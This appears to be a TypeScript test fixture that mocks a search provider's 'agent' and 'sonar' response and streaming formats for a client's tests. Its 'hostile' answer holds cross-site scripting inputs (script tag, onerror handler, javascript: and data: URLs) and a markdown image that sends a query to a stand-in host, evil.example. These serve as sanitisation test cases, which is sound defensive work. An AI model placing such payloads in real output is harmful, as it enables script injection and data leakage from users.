/** The provider's two formats, from its documentation and recorded responses. */

export type FakeAnswer = { text: string; citations: string[] };

export type Wire = {
  format: 'agent' | 'sonar';
  path: string;
  questionOf: (body: Record<string, unknown>) => string;
  whole: (answer: FakeAnswer) => object;
  /** A failure reported with status 200. */
  failed: object;
  events: (answer: FakeAnswer) => Record<string, unknown>[];
  failedEvent: Record<string, unknown>;
  /** The number of events up to the middle of the text. */
  middle: (events: readonly Record<string, unknown>[]) => number;
};

export const DEFAULT_ANSWER: FakeAnswer = {
  text: 'Many name Paolo Maldini as the best left back of the nineties [1]. Roberto Carlos was the more attacking choice [2], and Bixente Lizarazu won the 1998 World Cup there [3].',
  citations: [
    'https://www.example.org/maldini',
    'https://football.example.com/roberto-carlos?page=2',
    'https://en.example.net/wiki/Bixente_Lizarazu',
  ],
};

export const NAMED_ANSWERS = {
  /** Harmful unless treated as text. */
  hostile: {
    text: [
      '<img src=x onerror="window.intruder=true"><script>window.intruder=true</script>',
      '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true) **bold** [1] [2] [3] [9]',
      '\u202Egnorw\u202C <a href="https://evil.example">link</a>',
    ].join('\n'),
    citations: [
      'javascript:window.intruder=true',
      'https://user:password@evil.example/',
      'https://good.example.org/source',
      'data:text/html,<script>window.intruder=true</script>',
      'not an address',
    ],
  },
  eleven: {
    text: [
      'The best Italians in 4-4-2 [1]:',
      'GK: Gianluigi Buffon',
      'LB: Paolo Maldini',
      'LCB: Franco Baresi',
      'RCB: Fabio Cannavaro',
      'RB: Gianluca Zambrotta',
      'LCM: Andrea Pirlo',
      'RCM: Marco Tardelli',
      'LST: Paolo Rossi',
      'RST: Roberto Baggio',
      'LM: Giovanni Nobody',
    ].join('\n'),
    citations: ['https://example.org/italy'],
  },
  large: { text: 'Goal! '.repeat(175_000), citations: [] },
  'many-citations': {
    text: `Sources: ${Array.from({ length: 500 }, (_, index) => `[${index + 1}]`).join(' ')}`,
    citations: Array.from({ length: 500 }, (_, index) => `https://source-${index + 1}.example.org/`),
  },
} satisfies Record<string, FakeAnswer>;
export type NamedAnswer = keyof typeof NAMED_ANSWERS;

type Message = { content: string | { text?: string }[] };

function questionOf(messages: unknown): string {
  const content = (messages as Message[]).at(-1)?.content ?? '';
  return typeof content === 'string' ? content : content.map(({ text = '' }) => text).join('');
}

function piecesOf(text: string): string[] {
  const size = Math.max(12, Math.ceil(text.length / 100));
  return Array.from({ length: Math.ceil(text.length / size) }, (_, index) =>
    text.slice(index * size, (index + 1) * size),
  );
}

const IDS = { response: 'resp_5f1c', message: 'msg_77aa' };
const USAGE = { input_tokens: 412, output_tokens: 96, total_tokens: 508 };

const searchItem = ({ citations }: FakeAnswer) => ({
  type: 'search_results',
  queries: ['best left back 1990s'],
  results: citations.map((url, index) => ({
    id: index + 1,
    url,
    title: `Source ${index + 1}`,
    snippet: '…',
    source: 'web',
  })),
});
const messageItem = (text: string, status = 'completed') => ({
  type: 'message',
  id: IDS.message,
  role: 'assistant',
  status,
  content: text === '' && status === 'in_progress' ? [] : [{ type: 'output_text', text, annotations: [] }],
});
const response = (status: string, output: object[]) => ({
  id: IDS.response,
  object: 'response',
  created_at: 1_795_000_000,
  model: 'perplexity/sonar',
  status,
  output,
});

export const AGENT: Wire = {
  format: 'agent',
  path: '/v1/agent',
  questionOf: (body) => questionOf(body.input),
  whole: (answer) => ({
    ...response('completed', [searchItem(answer), messageItem(answer.text)]),
    usage: { ...USAGE, cost: { currency: 'USD', input_cost: 0.0004, output_cost: 0.0001, total_cost: 0.0055 } },
  }),
  failed: { ...response('failed', []), error: { message: 'pplx-secret: upstream model failed', code: 'model_error' } },
  events(answer) {
    const at = { item_id: IDS.message, output_index: 1, content_index: 0 };
    const events: Record<string, unknown>[] = [
      { type: 'response.created', response: response('in_progress', []) },
      { type: 'response.in_progress', response: response('in_progress', []) },
      { type: 'response.reasoning.started', thought: 'Looking it up.' },
      { type: 'response.reasoning.search_queries', queries: ['best left back 1990s'] },
      { type: 'response.reasoning.search_results', results: searchItem(answer).results },
      { type: 'response.reasoning.stopped' },
      { type: 'response.output_item.added', output_index: 1, item: messageItem('', 'in_progress') },
      ...piecesOf(answer.text).map((delta) => ({ type: 'response.output_text.delta', ...at, delta })),
      { type: 'response.output_text.done', ...at, text: answer.text },
      { type: 'response.output_item.done', output_index: 1, item: messageItem(answer.text) },
      { type: 'response.completed', response: AGENT.whole(answer) },
    ];
    return events.map((event, index) => ({ ...event, sequence_number: index }));
  },
  failedEvent: {
    type: 'response.failed',
    sequence_number: 99,
    error: { message: 'pplx-secret: upstream model failed' },
  },
  middle: (events) => Math.ceil(events.length / 2),
};

const completion = (object: string) => ({ id: '702738a1-fake', model: 'sonar', created: 1_795_000_000, object });
const SONAR_USAGE = { prompt_tokens: 412, completion_tokens: 96, total_tokens: 508 };

export const SONAR: Wire = {
  format: 'sonar',
  path: '/chat/completions',
  questionOf: (body) => questionOf(body.messages),
  whole: ({ text, citations }) => ({
    ...completion('chat.completion'),
    usage: SONAR_USAGE,
    citations,
    search_results: citations.map((url, index) => ({ title: `Source ${index + 1}`, url, date: null, source: 'web' })),
    choices: [{ index: 0, message: { role: 'assistant', content: text }, finish_reason: 'stop' }],
  }),
  failed: { error: { message: 'pplx-secret: upstream model failed', type: 'server_error', code: 500 } },
  events({ text, citations }) {
    const chunk = (content: string, isLast = false) => ({
      ...completion(isLast ? 'chat.completion.done' : 'chat.completion.chunk'),
      citations,
      usage: SONAR_USAGE,
      choices: [{ index: 0, delta: { role: 'assistant', content }, ...(isLast && { finish_reason: 'stop' }) }],
    });
    return [...piecesOf(text).map((piece) => chunk(piece)), chunk('', true)];
  },
  failedEvent: { error: { message: 'pplx-secret: upstream model failed', type: 'server_error', code: 500 } },
  middle: (events) => Math.ceil(events.length / 2),
};
